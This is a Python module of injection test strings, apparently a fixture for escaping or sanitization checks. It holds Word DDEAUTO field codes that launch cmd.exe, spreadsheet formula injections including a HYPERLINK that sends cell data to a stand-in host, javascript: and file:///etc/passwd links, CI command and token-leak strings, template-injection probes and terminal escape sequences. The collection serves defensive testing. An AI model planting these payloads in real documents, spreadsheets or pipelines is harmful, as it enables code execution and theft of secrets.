"""Texts that other programs would obey, of each sort."""

from __future__ import annotations

FIELD_CODES = (
    r'{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" }',
    r'{ INCLUDETEXT "\\\\host\\share\\x.docx" }',
    'DDE Excel.Sheet "x" "R1C1"',
    "</w:t></w:r><w:r><w:instrText>DDEAUTO x</w:instrText></w:r><w:r><w:t>",
    "]]><w:altChunk r:id='rId1'/><![CDATA[",
    '"/><w:fldSimple w:instr="DDEAUTO x"/><x a="',
    "&#x3C;w:p/&#x3E; &lt;w:p/&gt; &amp;",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"x")',
    "＝1+1",
)
LINKS = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    r"[x](\\server\share\x)",
    "[x](//server/share/x)",
    "[x](vbscript:msgbox)",
    "[x](ms-word:ofe|u|http://example.invalid/x)",
    "![x](http://example.invalid/x.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '<a href="javascript:alert(1)">x</a><img src=x onerror=alert(1)>',
)
COMMANDS = (
    "::error::x",
    "::stop-commands::token",
    "::set-env name=X::y",
    "%0A::error::x%0D",
    "##[add-mask]a",
    "##vso[task.setvariable variable=x]y",
    "##teamcity[buildStop]",
    "${{ github.token }}",
    "$(id) `id` ; id | id && id",
    "section_start:1:x[collapsed=true]",
)
MARKUP = (
    "[bold red]x[/]",
    "[/red]",
    "[link=http://example.invalid]x[/link]",
    "{{ 7 * 7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{0.__class__} %s %(x)s %n",
    "</title><script>alert(1)</script>",
    "| a | b |\n|---|---|\n| 1 | 2 |",
)
PRINTABLE = (*FIELD_CODES, *FORMULAS, *LINKS, *COMMANDS, *MARKUP)

ESCAPES = (
    "\x1b[2J\x1b[31m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://example.invalid\x1b\\x\x1b]8;;\x1b\\",
    "\x9b31m",
    "\x08\x08\x7f",
    "a\r::error::x",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\x85::error::x",
    "\u2028::error::x",
)
"""Characters that steer a terminal; a plan that holds one of them is told so, and the telling spells it out."""
